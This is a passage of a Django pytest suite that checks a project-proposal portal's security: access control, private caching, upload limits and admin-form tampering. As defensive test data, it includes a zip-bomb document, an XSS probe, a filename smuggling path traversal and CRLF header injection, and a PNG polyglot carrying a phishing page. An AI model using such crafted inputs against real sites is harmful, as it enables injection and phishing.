        signed_in(staff).get(reverse("admin:proposals_deliverable_change", args=[deliverable.pk]))
    )
    assert "<svg onload" not in html


# More: caching headers, deliverables, who hears of the desk ---------------------------------


def test_signed_in_pages_are_private_and_public_ones_vary_by_cookie(project, staff, cebu_lead):
    publish(project, staff)
    urls = [reverse("public_projects"), reverse("project_detail", args=[project.code])]
    for url in urls:
        anonymous = Client().get(url)
        assert "Cookie" in anonymous["Vary"]
        assert "public" not in anonymous.get("Cache-Control", "")
        signed = signed_in(cebu_lead).get(url)
        assert "no-store" in signed["Cache-Control"] and "private" in signed["Cache-Control"]
    for url in (reverse("desk"), reverse("staff_portfolio")):
        assert "no-store" in signed_in(staff).get(url)["Cache-Control"]


def test_only_consultants_upload_and_only_staff_review(
    project, version, danang_lead, consultant, private_files
):
    before = private_files()
    lead = signed_in(danang_lead)
    lead.post(
        reverse("deliverable_upload", args=[project.code, "interim"]),
        {"file": upload("Interim.pdf")},
    )
    for client in (lead, signed_in(consultant)):
        client.post(
            reverse("deliverable_review", args=[project.code, "inception"]),
            {"outcome": "accept", "accept": "1"},
        )
    version.deliverable.refresh_from_db()
    assert version.deliverable.state == "uploaded"
    assert not project.deliverables.get(kind="interim").versions.exists()
    assert private_files() == before


def test_an_oversized_or_bomb_deliverable_is_refused(project, consultant, private_files, settings):
    client = signed_in(consultant)
    url = reverse("deliverable_upload", args=[project.code, "inception"])
    before = private_files()
    client.post(url, {"file": upload("Inception.docx", docx_bomb())})
    settings.UPLOAD_HARD_LIMIT_BYTES = 500
    client.post(url, {"file": upload("Inception.pdf", pdf_bytes(size=2000))})
    assert not project.deliverables.get(kind="inception").versions.exists()
    assert private_files() == before


def test_view_only_desk_staff_and_askers_of_a_closed_request_post_nothing(
    city_request, danang_lead, reference_data
):
    viewer = UserFactory(email="desk.viewer@mlit.example", is_staff=True)
    viewer.user_permissions.set(Permission.objects.filter(codename="view_deskrequest"))
    client = signed_in(viewer)
    assert client.get(city_request.get_absolute_url()).status_code == 200
    assert (
        client.post(reverse("desk_reply", args=[city_request.code]), {"body": "x"}).status_code
        == 403
    )
    services.close_request(actor=danang_lead, desk_request=city_request)
    signed_in(danang_lead).post(reverse("desk_reply", args=[city_request.code]), {"body": "Again"})
    assert not DeskMessage.objects.exists()


def test_a_former_staff_member_still_in_the_group_hears_nothing_of_the_desk(
    danang, danang_lead, staff, deliver
):
    from django.contrib.auth.models import Group

    from proposals.roles import PROGRAMME_STAFF

    former = UserFactory(email="left.mlit@example.org", full_name="Gone Staff", is_staff=False)
    former.groups.add(Group.objects.get(name=PROGRAMME_STAFF))
    desk_request = deliver(
        services.open_request,
        user=danang_lead,
        topic="financing",
        subject="Confidential terms",
        body="Our confidential budget.",
        city=danang,
    )
    assert signed_in(former).get(desk_request.get_absolute_url()).status_code == 404
    assert desk_notes().filter(email=staff.email).exists()
    assert not desk_notes().filter(email=former.email).exists()


def test_desk_files_keep_their_checked_type_and_a_safe_name(city_request, danang_lead):
    from django.core.files.uploadedfile import SimpleUploadedFile

    hostile = SimpleUploadedFile('..\\..\\a"\r\nX-Evil: 1;.pdf', pdf_bytes("x"), "text/html")
    message = services.follow_up_request(
        user=danang_lead, desk_request=city_request, body="Here.", files=[hostile]
    )
    stored = message.files.get()
    assert stored.content_type == "application/pdf"
    assert ".." not in stored.file.name and "\\" not in stored.name and "\n" not in stored.name
    response = signed_in(danang_lead).get(
        reverse("desk_file", args=[city_request.code, stored.code])
    )
    assert "\n" not in response["Content-Disposition"] and "X-Evil" not in "".join(
        key for key in response.headers
    )
    assert response["Content-Type"] == "application/pdf"


def test_a_consultant_added_in_the_admin_form_is_named_on_the_timeline(project, staff, cebu_lead):
    from proposals.timeline import project_timeline

    signed_in(staff).post(
        reverse("admin:proposals_project_change", args=[project.pk]),
        change_form(project, consultants=str(cebu_lead.pk)),
    )
    added = project.consultants.filter(pk=cebu_lead.pk).exists()
    named = any(cebu_lead.email in event.what for event in project_timeline(project))
    assert not added or named


def test_a_member_removed_from_the_city_loses_its_desk_requests(
    danang, danang_editor, staff, deliver
):
    from proposals.models import CityMembership

    desk_request = services.open_request(
        user=danang_editor,
        topic="financing",
        subject="Budget line",
        body="The city's budget.",
        city=danang,
        files=[upload("Budget.pdf")],
    )
    CityMembership.objects.filter(city=danang, user=danang_editor).delete()
    deliver(
        services.answer_request,
        actor=staff,
        desk_request=desk_request,
        body="Confidential terms for Da Nang.",
    )
    client = signed_in(danang_editor)
    statuses = [
        client.get(url).status_code for method, url in desk_urls(desk_request) if method == "get"
    ]
    heard = desk_notes().filter(email=danang_editor.email, kind="desk_answered").exists()
    assert statuses == [404, 404] and not heard


def test_a_png_with_a_web_page_in_a_text_chunk_is_served_as_its_pixels_only(project, staff):
    from PIL import Image

    png = image_bytes()
    at = png.index(b"IDAT") - 4
    polyglot = png[:at] + png_chunk(b"tEXt", b"Comment\x00" + PHISHING_PAGE) + png[at:]
    Image.open(io.BytesIO(polyglot)).load()  # a valid image
    served = served_public_image(project, staff, "river.png", polyglot, "image/png")
    assert PHISHING_PAGE not in served and b"tEXt" not in served
    assert Image.open(io.BytesIO(served)).size == Image.open(io.BytesIO(png)).size


def test_the_reviewer_of_the_proposal_gets_404_on_its_project(project, version, reviewer2):
    client = signed_in(reviewer2)
    for method, url in project_urls(project, version):
        response = client.post(url, {"accept": "1"}) if method == "post" else client.get(url)
        assert response.status_code == 404, url


def test_the_new_request_form_offers_only_the_reader_s_cities_and_projects(
    project, cebu_project, cebu_lead, company, consultant_elsewhere
):
    page = page_text(signed_in(cebu_lead).get(reverse("desk_new")))
    assert "Cebu bus rapid transit" in page
    assert "Flood early warning" not in page and project.code not in page
    assert project.proposal.city.code not in page
    for user in (company, consultant_elsewhere):
        page = page_text(signed_in(user).get(reverse("desk_new")))
        assert "Flood early warning" not in page and project.code not in page


def test_the_desk_admin_form_changes_only_the_project(city_request, staff, cebu_lead, project):
    import re

    client = signed_in(staff)
    change = reverse("admin:proposals_deskrequest_change", args=[city_request.pk])
    page = page_text(client.get(change))
    management = dict(re.findall(r'name="([^"]+_FORMS)"[^>]*value="(\d+)"', page))
    response = client.post(
        change,
        {
            "project": project.pk,
            "state": "closed",
            "requester": cebu_lead.pk,
            "city": "",
            "company": "Evil Corp",
            "subject": "Rewritten",
            "body": "Rewritten",
            **management,
        },
    )
    assert response.status_code == 302
    city_request.refresh_from_db()
    assert city_request.project == project
    assert (city_request.state, city_request.requester_id, city_request.subject) == (
        DeskState.OPEN,
        city_request.requester_id,
        "JBIC loan terms",
    )
    assert city_request.requester.email == "lead.danang@example.org"
    assert city_request.company == "" and city_request.city is not None


def test_the_deliverable_admin_form_cannot_set_the_state(project, version, staff):
    deliverable = version.deliverable
    response = signed_in(staff).post(
        reverse("admin:proposals_deliverable_change", args=[deliverable.pk]),
        {
            "due_on": deliverable.due_on.isoformat(),
            "state": "accepted",
            "project": 999,
            "kind": "final",
            "versions-TOTAL_FORMS": "1",
            "versions-INITIAL_FORMS": "1",
        },
    )
    assert response.status_code in (200, 302)
    deliverable.refresh_from_db()
    assert (deliverable.state, deliverable.kind, deliverable.project_id) == (
        "uploaded",
        "inception",
        project.pk,
    )


def test_project_notifications_stay_with_the_project_s_city_and_consultants(
    project, version, staff, cebu_lead, consultant_elsewhere, reviewer, deliver
):
    before = set(Notification.objects.values_list("pk", flat=True))
    deliver(
        services.review_deliverable,
        actor=staff,
        deliverable=version.deliverable,
        accept=False,
        comment="Da Nang's figures are wrong.",
    )
    new = Notification.objects.exclude(pk__in=before)
    assert new.exists()
    recipients = set(new.values_list("email", flat=True))
    assert not recipients & {cebu_lead.email, consultant_elsewhere.email, reviewer.email}
